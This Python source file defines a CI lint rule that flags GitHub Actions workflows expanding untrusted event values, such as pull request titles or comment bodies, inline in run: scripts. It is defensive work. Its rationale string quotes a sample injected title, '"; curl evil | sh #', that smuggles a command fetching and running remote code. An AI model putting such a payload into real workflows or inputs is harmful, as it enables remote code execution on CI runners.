"""Checks that untrusted values (`${{ github.event.* }}`, free-text `inputs.*`) are never expanded in `run:`."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from platctl.doctor.model import Finding, Level, RuleMeta, Severity
from platctl.doctor.repo import Repo
from platctl.doctor.rules.ci._workflows import iter_steps, iter_workflows

META = RuleMeta(
    code="CI008",
    slug="script-injection",
    title="Untrusted event values go through env:, not inline in run:",
    severity=Severity.ERROR,
    level=Level.BRONZE,
    security=True,
    rationale=(
        "`${{ }}` is expanded before the shell runs, so a pull request title such as "
        "`\"; curl evil | sh #` becomes part of your script. Pass the value through `env:` and quote it."
    ),
    example='- run: echo "${{ github.event.pull_request.title }}"',
    fix_example='- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$TITLE"',
)

# Bounded gaps ({0,200}), never ``.*``: an unbounded run searched from every start is quadratic.
_UNTRUSTED = re.compile(
    r"github\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label)|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|pages\b[^\n]{0,200}?\.page_name"
    r"|commits\b[^\n]{0,200}?\.(message|author\.(email|name))"
    r"|head_commit\.(message|author\.(email|name))|discussion\.(title|body)|workflow_run\.head_branch"
    r"|inputs\.[A-Za-z0-9_-]{1,200}|client_payload\.[A-Za-z0-9_.-]{1,200}))"
    r"|(?<![\w.])inputs\.[A-Za-z0-9_-]{1,200}"
)
# Inputs that can only be a boolean, a number or one of fixed choices carry no shell syntax.
_SAFE_INPUT_TYPES = ("boolean", "number", "choice", "environment")


def check(repo: Repo, options: Mapping[str, Any]) -> Iterator[Finding]:
    for workflow in iter_workflows(repo):
        for _, job in workflow.jobs():
            for step in iter_steps(job):
                node, key = _script_of(step)
                script = node.get(key) if node is not None else None
                if not isinstance(script, str):
                    continue
                for expression in expressions(script):
                    match = _UNTRUSTED.search(expression)
                    if match and not _safe_input(workflow, match.group(0)):
                        yield META.finding(f"{key}: expands untrusted {match.group(0)} inline; pass it through env:",
                                           workflow.path, workflow.line(node, key))


def expressions(script: str) -> Iterator[str]:
    """The text inside each ``${{ ... }}``, found with str.find: linear even with thousands of unclosed ``${{``."""
    start = script.find("${{")
    while start >= 0:
        end = script.find("}}", start + 3)
        if end < 0:
            return
        yield script[start + 3:end]
        start = script.find("${{", end + 2)


def _script_of(step: dict[str, Any]) -> tuple[dict[str, Any] | None, str]:
    """The step's shell script, or the JavaScript of actions/github-script."""
    if "run" in step:
        return step, "run"
    inputs = step.get("with")
    if str(step.get("uses", "")).startswith("actions/github-script") and isinstance(inputs, dict):
        return inputs, "script"
    return None, "run"


def _safe_input(workflow: Any, expression: str) -> bool:
    """An input that cannot carry shell syntax: declared a boolean, number or choice, or not a
    ``workflow_dispatch`` input at all (a reusable workflow's inputs are its caller's to check)."""
    if "inputs." not in expression:
        return False
    if "workflow_dispatch" not in workflow.trigger_names():
        return True
    name = expression.rsplit("inputs.", 1)[1]
    triggers = workflow.triggers if isinstance(workflow.triggers, dict) else {}
    spec = triggers.get("workflow_dispatch")
    inputs = spec.get("inputs") if isinstance(spec, dict) else None
    declared = inputs.get(name) if isinstance(inputs, dict) else None
    return isinstance(declared, dict) and declared.get("type") in _SAFE_INPUT_TYPES
